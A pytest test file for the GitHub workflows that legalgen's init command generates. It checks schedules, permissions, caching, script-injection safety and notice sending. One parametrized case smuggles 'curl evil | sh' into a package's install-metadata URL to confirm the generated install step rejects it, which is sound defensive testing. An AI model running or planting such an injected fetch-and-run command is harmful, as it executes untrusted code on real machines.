"""The GitHub workflows `legalgen init` writes: valid workflows, whose commands work on a project."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from legalgen.cli import main
from legalgen.scaffold import plan

from .brandgen import announce_in_every_brand, base_project, brand_name, write_brands
from .conftest import copy_project, released_on
from .notices.test_notices import smtp_server  # noqa: F401 - the fixture

WORKFLOWS = sorted((Path(__file__).parent.parent / "legalgen" / "workflows").glob("*.yml"))
NAMES = [w.name for w in WORKFLOWS]


def _written(target: Path, brand_shards: int | None = None) -> dict[str, str]:
    """The workflows as init writes them into ``target`` (for a project with brands: ``brand_shards``)."""
    return {path.name: str(content) for path, content in plan(target, None, brand_shards).items()
            if ".github" in path.parts}


def test_init_writes_two_workflows_pinned_to_this_version(tmp_path: Path) -> None:
    from importlib.metadata import version

    written = _written(tmp_path)
    assert sorted(written) == ["legal-check.yml", "legal-publish.yml"]
    for text in written.values():
        assert f'"legalgen=={version("legalgen")}"' in text and "@VERSION@" not in text


@pytest.mark.parametrize(("zone", "builds"), [
    ("America/Chicago", ['"5 5,6 * * *"']),  # 00:05 in CST and CDT
    ("Asia/Kolkata", ['"35 18 * * *"']),  # no summer time, half-hour offset
    ("Australia/Sydney", ['"5 13,14 * * *"']),  # summer time in January
])
def test_the_schedules_follow_the_site_s_time_zone(tmp_path: Path, zone: str, builds: list[str]) -> None:
    """The site is built just after midnight in its time zone (the notices go out after it)."""
    from legalgen.scaffold import Answers

    answers = Answers("A GmbH", "DE", "a@a.example", "A", "https://a.example/", timezone=zone)
    written = {path.name: str(text) for path, text in plan(tmp_path, answers).items() if ".github" in path.parts}
    publish = yaml.safe_load(written["legal-publish.yml"])[True]["schedule"]
    assert [f'"{entry["cron"]}"' for entry in publish] == builds and f"({zone}: " in written["legal-publish.yml"]
    assert "Europe/Berlin" not in "".join(written.values())


def test_every_workflow_is_valid_for_github(tmp_path: Path) -> None:
    folder = tmp_path / "workflows"
    folder.mkdir()
    for name, text in _written(tmp_path).items():
        (folder / name).write_text(text, encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                             *map(str, sorted(folder.iterdir()))], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_untrusted_values_reach_scripts_only_through_the_environment() -> None:
    """`${{ }}` expressions never appear inside a run script (script injection), only in env and if."""
    for workflow in [*WORKFLOWS, *(WORKFLOWS[0].parent / "brands").glob("*.yml")]:
        data = yaml.safe_load(workflow.read_text(encoding="utf-8").replace("@SHARDS@", "1"))
        for job in data["jobs"].values():
            for step in job.get("steps", []):
                assert "${{" not in step.get("run", ""), (workflow.name, step)


def test_publishing_uses_the_official_pages_actions() -> None:
    data = yaml.safe_load((Path(__file__).parent.parent / "legalgen" / "workflows" / "legal-publish.yml").read_text())
    uses = [step.get("uses", "") for job in data["jobs"].values() for step in job["steps"]]
    for action in ("actions/configure-pages@", "actions/upload-pages-artifact@", "actions/deploy-pages@"):
        assert any(u.startswith(action) for u in uses), action
    assert set(data[True]) >= {"push", "schedule"}  # PyYAML reads the key `on` as True
    assert data["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}


def test_publishing_keeps_the_cache_between_runs(tmp_path: Path) -> None:
    """Daily builds start warm: the cache is restored before legalgen runs, keyed by the
    legalgen version, so another version starts afresh."""
    from importlib.metadata import version

    for name, text in {**_written(tmp_path),
                       **_written(tmp_path, brand_shards=2)}.items():
        if "publish" not in name:
            continue
        steps = [step for job in yaml.safe_load(text)["jobs"].values() for step in job["steps"]]
        [index] = [i for i, step in enumerate(steps) if step.get("uses", "").startswith("actions/cache@")]
        cached = steps[index]["with"]
        assert cached["path"] == "~/.cache/legalgen"
        assert cached["key"].startswith(f"legalgen-{version('legalgen')}-") and cached["key"].endswith("${{ github.sha }}")
        assert cached["key"].startswith(cached["restore-keys"])
        assert index < min(i for i, step in enumerate(steps) if "legalgen " in step.get("run", "")
                           and "pip install" not in step.get("run", "")), name


def _git(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-c", "user.email=t@t.example", "-c", "user.name=T", *args], cwd=root,
                          check=True, capture_output=True, text=True).stdout.strip()


def _steps(name: str, text: str | None = None, jobs: tuple[str, ...] = ()) -> list[tuple[dict[str, str], str]]:
    """The (env, script) of every step of workflow ``name`` (or of its ``text`` as init wrote
    it) that runs legalgen, in its ``jobs`` (all by default)."""
    data = yaml.safe_load(text or (Path(__file__).parent.parent / "legalgen" / "workflows" / name).read_text())
    found = []
    for job_name, job in data["jobs"].items():
        if jobs and job_name not in jobs:
            continue
        for step in job.get("steps", []):
            script = step.get("run", "")
            if "legalgen " in script and "pip install" not in script:
                found.append((step.get("env", {}), script))
    return found


def _run(project: Path, name: str, values: dict[str, str], extra_env: dict[str, str],
         text: str | None = None, jobs: tuple[str, ...] = ()) -> list[str]:
    """Run the legalgen steps of a workflow in ``project`` as the runner would; return their output."""
    runner_temp = project.parent / "runner"
    runner_temp.mkdir(exist_ok=True)
    summary = runner_temp / "summary.md"
    bin_dir = runner_temp / "bin"
    bin_dir.mkdir(exist_ok=True)
    launcher = bin_dir / "legalgen"
    launcher.write_text(f"#!/bin/sh\nexec {sys.executable} -m legalgen \"$@\"\n", encoding="utf-8")
    launcher.chmod(0o755)
    outputs = []
    for step_env, script in _steps(name, text, jobs):
        env = {**os.environ, **extra_env, "RUNNER_TEMP": str(runner_temp), "GITHUB_STEP_SUMMARY": str(summary),
               "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
        for key, value in step_env.items():
            # a secret from values, another job's or step's output as ``extra_env`` gives it, an input as on a schedule
            env[key] = values[key] if key in values else extra_env.get(key, "") if value.startswith("${{") else value
        result = subprocess.run(["bash", "-e", "-c", script], cwd=project, env=env, capture_output=True, text=True,
                                check=False)
        assert result.returncode == 0, f"{name}: {script}\n{result.stdout}\n{result.stderr}"
        outputs.append(result.stdout + result.stderr)
    return outputs


@pytest.mark.slow
def test_the_pull_request_workflow_runs_on_a_change(tmp_path: Path) -> None:
    (tmp_path / "project").mkdir()
    root = copy_project(tmp_path / "project").root
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "base")
    base = _git(root, "rev-parse", "HEAD")
    _git(root, "checkout", "-qb", "change")
    privacy = root / "policy" / "privacy.yaml"
    privacy.write_text(privacy.read_text(encoding="utf-8").replace("period: P30D", "period: P60D", 1), encoding="utf-8")
    _git(root, "commit", "-qam", "longer storage")
    outputs = _run(root, "legal-check.yml", {"BASE": base}, released_on("2026-11-24"))
    assert "::warning file=policy/privacy.yaml" in outputs[0]  # C01 as an annotation
    summary = (tmp_path / "runner" / "summary.md").read_text(encoding="utf-8")
    assert summary.startswith("## legalgen diff") and "| privacy | changed, **material** |" in summary


@pytest.mark.slow
def test_the_publish_workflow_builds_the_site(tmp_path: Path) -> None:
    (tmp_path / "project").mkdir()
    project = copy_project(tmp_path / "project")
    _run(project.root, "legal-publish.yml", {}, released_on("2026-11-24"), jobs=("build",))
    assert (project.root / "site" / "en" / "privacy" / "index.html").is_file()


def _pushed(root: Path) -> Path:
    """Make ``root`` a git checkout whose remote ``origin`` (a bare repository beside it) has
    its commit, as actions/checkout leaves a runner; return the remote."""
    remote = root.parent / "origin.git"
    _git(root.parent, "init", "-q", "--bare", "-b", "main", str(remote))
    if not (root / ".git").exists():
        _git(root, "init", "-q", "-b", "main")
        _git(root, "add", "-A")
        _git(root, "commit", "-qm", "base")
    _git(root, "remote", "add", "origin", str(remote))
    _git(root, "push", "-q", "origin", "main")
    return remote


def _smtp_secrets(port: int, recipients: str) -> dict[str, str]:
    return {"LEGALGEN_SMTP_HOST": "127.0.0.1", "LEGALGEN_SMTP_PORT": str(port), "LEGALGEN_SMTP_USER": "",
            "LEGALGEN_SMTP_PASSWORD": "", "RECIPIENTS_CSV": recipients}


def test_the_notices_workflow_sends_through_smtp(tmp_path: Path, smtp_server) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    handler, port = smtp_server
    (tmp_path / "project").mkdir()
    project = copy_project(tmp_path / "project")
    remote = _pushed(project.root)
    secrets = _smtp_secrets(port, "email,locale\nanna@example.org,de")
    env = {**released_on("2026-11-10"), "LEGALGEN_SMTP_STARTTLS": "no"}
    _run(project.root, "legal-publish.yml", secrets, env, jobs=("notices",))
    assert len(handler.received) == 1 and handler.received[0]["To"] == "anna@example.org"
    assert "/announcement" in _git(remote, "tag", "-l", "legalgen-notices/site/privacy/v3-*")
    [again] = _run(project.root, "legal-publish.yml", secrets, env, jobs=("notices",))  # the run of another push
    assert "no notices due on 2026-11-10" in again and len(handler.received) == 1


def test_only_the_jobs_that_send_notices_may_write_and_only_through_legalgen(tmp_path: Path) -> None:
    """The tags that record the notices sent need `contents: write`; no job that builds or
    checks has it, and the jobs that have it run nothing but legalgen notices."""
    texts = {**_written(tmp_path), **_written(tmp_path, brand_shards=2)}
    writers = []
    for name, text in texts.items():
        data = yaml.safe_load(text)
        for job_name, job in data["jobs"].items():
            permissions = job.get("permissions", data.get("permissions", {}))
            if permissions.get("contents") != "write":
                continue
            writers.append((name, job_name))
            scripts = [step["run"] for step in job["steps"] if "run" in step]
            assert [s.split()[0] for s in scripts] == ["python", "umask"], (name, job_name)
            assert "--ledger origin" in scripts[-1] and "git " not in scripts[-1]
    assert sorted(writers) == [("legal-publish-brands.yml", "notices"), ("legal-publish.yml", "notices")]


def test_the_notices_go_out_after_the_deployment_and_from_main_only(tmp_path: Path) -> None:
    """What a message links to is on the site when it goes out; a run started by hand on
    another branch sends nothing (the ledger would record another branch's versions)."""
    written = {**_written(tmp_path), **_written(tmp_path, brand_shards=2)}
    senders = [name for name, text in written.items() if "notices" in yaml.safe_load(text)["jobs"]]
    assert sorted(senders) == ["legal-publish-brands.yml", "legal-publish.yml"]
    for name in senders:
        job = yaml.safe_load(written[name])["jobs"]["notices"]
        needs = job["needs"] if isinstance(job["needs"], list) else [job["needs"]]
        assert ("deploy" in needs or needs == ["brands"]) and \
            "github.ref_name == github.event.repository.default_branch" in job["if"], name


def test_the_notices_go_out_as_of_the_day_the_site_was_built(tmp_path: Path) -> None:
    """A build seconds before midnight and its notices after it: the job notices sends as of
    the build's moment (SOURCE_DATE_EPOCH), not of its own start."""
    published = yaml.safe_load(_written(tmp_path)["legal-publish.yml"])["jobs"]
    steps = published["build"]["steps"]
    moment = next(i for i, step in enumerate(steps) if step.get("id") == "moment")
    assert steps[moment]["run"] == 'echo "epoch=$(date +%s)" >> "$GITHUB_OUTPUT"'
    assert published["build"]["outputs"]["moment"] == "${{ steps.moment.outputs.epoch }}"
    runs = [step for step in steps[moment:] if "legalgen " in step.get("run", "")]
    assert [step["env"]["SOURCE_DATE_EPOCH"] for step in runs] == ["${{ steps.moment.outputs.epoch }}"] * 2
    assert all("legalgen " not in step.get("run", "") for step in steps[:moment])
    send = published["notices"]["steps"][-1]
    assert send["env"]["BUILT_AT"] == "${{ needs.build.outputs.moment }}" and "build" in published["notices"]["needs"]
    brands = yaml.safe_load(_written(tmp_path, brand_shards=2)["legal-publish-brands.yml"])["jobs"]
    marker = brands["brands"]["steps"][-2]
    assert marker["env"]["MOMENT"] == "${{ steps.moment.outputs.epoch }}" and "$MOMENT" in marker["run"]
    # the step's script, with a legalgen that shows the moment it is given: the build's, when
    # it was less than an hour ago (a re-run of the job days later sends as of now)
    runner = tmp_path / "runner"
    (runner / "bin").mkdir(parents=True)
    (runner / "bin" / "legalgen").write_text('#!/bin/sh\necho "as of ${SOURCE_DATE_EPOCH:-now}"\n', encoding="utf-8")
    (runner / "bin" / "legalgen").chmod(0o755)
    (runner / "deployed").mkdir()
    now = int(time.time())
    environment = {key: value for key, value in os.environ.items() if key != "SOURCE_DATE_EPOCH"}
    for built, shown in ((str(now - 60), str(now - 60)), (str(now - 7200), "now"), ("", "now")):
        (runner / "deployed" / "deployed").write_text(built + "\n", encoding="utf-8")
        for script in (send["run"], brands["notices"]["steps"][-1]["run"]):
            result = subprocess.run(["bash", "-e", "-c", script], capture_output=True, text=True, check=False, env={
                **environment, "BUILT_AT": built, "RUNNER_TEMP": str(runner), "RECIPIENTS_CSV": "",
                "PATH": f"{runner / 'bin'}{os.pathsep}{os.environ['PATH']}"})
            assert (result.returncode, result.stdout) == (0, f"as of {shown}\n"), (built, result.stderr)


def test_a_version_merged_late_is_announced_once_by_its_push(tmp_path: Path, smtp_server) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    """A material version released with today's publication date and merged at noon, after
    the morning's notices ran: the publishing run of its push announces it and records it,
    and the daily run (run by hand the same day) sends nothing more."""
    handler, port = smtp_server
    (tmp_path / "project").mkdir()
    root = copy_project(tmp_path / "project").root
    remote = _pushed(root)
    privacy = root / "policy" / "privacy.yaml"
    privacy.write_text(privacy.read_text(encoding="utf-8").replace("period: P30D", "period: P60D", 1), encoding="utf-8")
    summary = tmp_path / "summary.yaml"
    summary.write_text("en: Logs are kept 60 days.\nde: Protokolle werden 60 Tage aufbewahrt.\nfr: Les journaux sont conservés 60 jours.\n",
                       encoding="utf-8")
    released = CliRunner().invoke(main, ["release", "privacy", "--root", str(root), "--summary-file", str(summary),
                                         "--effective", "2027-01-15"], env=released_on("2026-11-24"))
    assert released.exit_code == 0, released.output
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "privacy 11")
    _git(root, "push", "-q", "origin", "main")
    secrets = _smtp_secrets(port, "email,locale\nanna@example.org,de")
    env = {**released_on("2026-11-24"), "LEGALGEN_SMTP_STARTTLS": "no"}
    [pushed] = _run(root, "legal-publish.yml", secrets, env, jobs=("notices",))
    assert "due on 2026-11-24: privacy version 11 (announcement)" in pushed
    assert len(handler.received) == 1 and "15. Januar 2027" in handler.received[0]["Subject"]
    [daily] = _run(root, "legal-publish.yml", secrets, env, jobs=("notices",))  # the next run, the same day
    assert "no notices due on 2026-11-24" in daily and len(handler.received) == 1
    assert "/announcement" in _git(remote, "tag", "-l", "legalgen-notices/site/privacy/v11-*")


def test_the_brand_workflow_sends_each_brands_notices_once(tmp_path: Path, smtp_server,  # type: ignore[no-untyped-def]  # noqa: F811
                                                           release_day: Callable[[str], None]) -> None:
    """Each shard that deployed sends its brands' notices, from the brand's own sender to its
    own subscribers (one recipients file, a column brand), and records them: a second run
    sends nothing."""
    handler, port = smtp_server
    root = base_project(tmp_path / "project")
    write_brands(root, 2)
    announce_in_every_brand(root, 2, release_day)
    remote = _pushed(root)
    secrets = _smtp_secrets(port, f"email,locale,brand\nanna@example.org,de,{brand_name(1)}\n"
                                  f"ben@example.org,fr,{brand_name(2)}")
    env = {**released_on("2026-11-02"), "LEGALGEN_SMTP_STARTTLS": "no", "SHARD": "1/1"}
    marker = tmp_path / "runner" / "deployed" / "deployed"  # the shard's marker, as the download step leaves it
    marker.parent.mkdir(parents=True)
    marker.write_text(env["SOURCE_DATE_EPOCH"] + "\n", encoding="utf-8")  # long ago: the environment's day counts
    text = _written(root, brand_shards=2)["legal-publish-brands.yml"]
    announce = yaml.safe_load(text)["jobs"]["notices"]
    assert announce["needs"] == "brands" and announce["if"].startswith("${{ !cancelled() && ")
    deployed = yaml.safe_load(text)["jobs"]["brands"]["steps"][-1]
    assert deployed["with"]["name"] == "deployed-${{ matrix.shard }}"  # the last step of a shard that deployed
    assert all(step.get("if") == "steps.deployed.outcome == 'success'" for step in announce["steps"][1:])
    [output] = _run(root, "legal-publish-brands.yml", secrets, env, text, jobs=("notices",))
    assert output.count("privacy version 2 (announcement), recorded as") == 2
    assert sorted((m["To"], m["Content-Language"], m["From"].split("@")[1]) for m in handler.received) == [
        ("anna@example.org", "de", f"{brand_name(1)}.example>"), ("ben@example.org", "fr", f"{brand_name(2)}.example>")]
    assert [tag.split("/v2-")[0] for tag in sorted(_git(remote, "tag", "-l", "*/announcement").splitlines())] == [
        f"legalgen-notices/brands/{brand_name(n)}/privacy" for n in (1, 2)]
    [again] = _run(root, "legal-publish-brands.yml", secrets, env, text, jobs=("notices",))
    assert again.count("no notices due on 2026-11-02") == 2 and len(handler.received) == 2


def test_init_writes_the_brand_matrix_when_asked(tmp_path: Path) -> None:
    written = _written(tmp_path, brand_shards=4)
    assert sorted(written) == ["legal-check.yml", "legal-publish-brands.yml"]
    data = yaml.safe_load(written["legal-publish-brands.yml"])
    job = data["jobs"]["brands"]
    assert job["strategy"]["matrix"]["shard"] == [1, 2, 3, 4] and job["env"]["SHARD"] == "${{ matrix.shard }}/4"
    scripts = [step.get("run", "") for step in job["steps"]]
    assert 'legalgen build --brands --shard "$SHARD"' in scripts and all("${{" not in s for s in scripts)
    assert "@" not in written["legal-publish-brands.yml"].replace("@v", "")  # every placeholder filled
    check = yaml.safe_load(written["legal-check.yml"])
    check_scripts = [step.get("run", "") for job in check["jobs"].values() for step in job["steps"]]
    assert any('legalgen check --brands --format github --against "$BASE"' in s for s in check_scripts)
    assert "a CSV with the columns email,\n# locale and brand)" in written["legal-publish-brands.yml"]
    assert sum(script.count('legalgen notices --brands --shard "$SHARD" --send') for _, script in
               _steps("legal-publish-brands.yml", written["legal-publish-brands.yml"], ("notices",))) == 1
    folder = tmp_path / "workflows"
    folder.mkdir()
    (folder / "brands.yml").write_text(written["legal-publish-brands.yml"], encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                             str(folder / "brands.yml")], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(("direct_url", "requirement", "noted"), [
    (None, "legalgen==1.2.3", False),  # from the package index: no direct_url.json
    ('{"url": "https://github.com/acme/legalgen", "vcs_info": {"vcs": "git", "commit_id": "' + "a" * 40 + '"}}',
     "legalgen @ git+https://github.com/acme/legalgen@" + "a" * 40, False),
    ('{"url": "file:///home/me/legalgen", "dir_info": {"editable": true}}', "legalgen==1.2.3", True),
    ('{"url": "file:///srv/git/legalgen", "vcs_info": {"vcs": "git", "commit_id": "' + "b" * 40 + '"}}',
     "legalgen==1.2.3", True),  # a repository on this machine
    ('{"url": "https://x.example/\\"; curl evil | sh; \\"", "vcs_info": {"vcs": "git", "commit_id": "' + "c" * 40
     + '"}}', "legalgen==1.2.3", True),  # nothing from the metadata reaches the script unchecked
    ("not json", "legalgen==1.2.3", False),
])
def test_the_workflows_install_the_legalgen_that_wrote_them(monkeypatch: pytest.MonkeyPatch, direct_url: str | None,
                                                            requirement: str, noted: bool, tmp_path: Path) -> None:
    import importlib.metadata

    class Installed:
        version = "1.2.3"

        def read_text(self, name: str) -> str | None:
            return direct_url if name == "direct_url.json" else None

    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: Installed())
    monkeypatch.setattr("legalgen.scaffold.package_version", lambda: "1.2.3")
    from legalgen.scaffold import install_requirement

    found, note = install_requirement()
    assert (found, note is not None) == (requirement, noted)
    assert "evil" not in (note or "")
    written = _written(tmp_path)
    assert all(f'python -m pip install "{requirement}"' in text for text in written.values())


def _init_in(target: Path) -> tuple[str, str]:
    """init the example in ``target``: its publishing workflow's push trigger, and what it printed."""
    from click.testing import CliRunner

    from legalgen.cli import main

    result = CliRunner().invoke(main, ["init", str(target), "--example"])
    assert result.exit_code == 0, result.output
    published = yaml.safe_load((target / ".github" / "workflows" / "legal-publish.yml").read_text(encoding="utf-8"))
    return published[True]["push"]["branches"], result.output  # `on` reads as True in YAML 1.1


def test_the_workflows_publish_the_default_branch(tmp_path: Path) -> None:
    """origin's default branch, the branch of a repository without commits, its only branch;
    main with a note when nothing tells, or when the name would be a pattern to GitHub."""
    clone = tmp_path / "clone"
    clone.mkdir()
    _git(clone, "init", "-q", "-b", "master")
    _git(clone, "commit", "-q", "--allow-empty", "-m", "start")
    _git(clone, "checkout", "-q", "-b", "legal-site")  # init runs on a feature branch
    _git(clone, "update-ref", "refs/remotes/origin/master", "HEAD")
    _git(clone, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/master")
    branches, output = _init_in(clone / "site")
    assert branches == ["master"] and "note: the workflows publish the branch master on every push (origin's " \
        "default branch)" in output
    _git(clone, "update-ref", "-d", "refs/remotes/origin/master")  # renamed upstream, pruned here
    assert _init_in(clone / "other")[0] == ["master"]  # not origin's stale HEAD: the repository's master branch

    literal = tmp_path / "literal"
    literal.mkdir()
    _git(literal, "init", "-q", "-b", "true")  # YAML would read it as a boolean unquoted
    assert _init_in(literal)[0] == ["true"]

    empty = tmp_path / "empty"
    empty.mkdir()
    _git(empty, "init", "-q", "-b", "trunk")
    assert _init_in(empty)[0] == ["trunk"]

    alone = tmp_path / "alone"
    alone.mkdir()
    _git(alone, "init", "-q", "-b", "release")
    _git(alone, "commit", "-q", "--allow-empty", "-m", "start")
    assert _init_in(alone)[0] == ["release"]

    odd = tmp_path / "odd"
    odd.mkdir()
    _git(odd, "init", "-q", "-b", "legal+site")
    branches, output = _init_in(odd)
    assert branches == ["main"] and "'legal+site', has characters a branch filter reads as a pattern" in output

    outside = tmp_path / "outside"
    outside.mkdir()
    if subprocess.run(["git", "rev-parse", "--git-dir"], cwd=outside, capture_output=True, check=False).returncode == 0:
        pytest.skip("the temporary folder is inside a git checkout")
    branches, output = _init_in(outside)
    assert branches == ["main"] and "note: the workflows publish the branch main on every push" in output
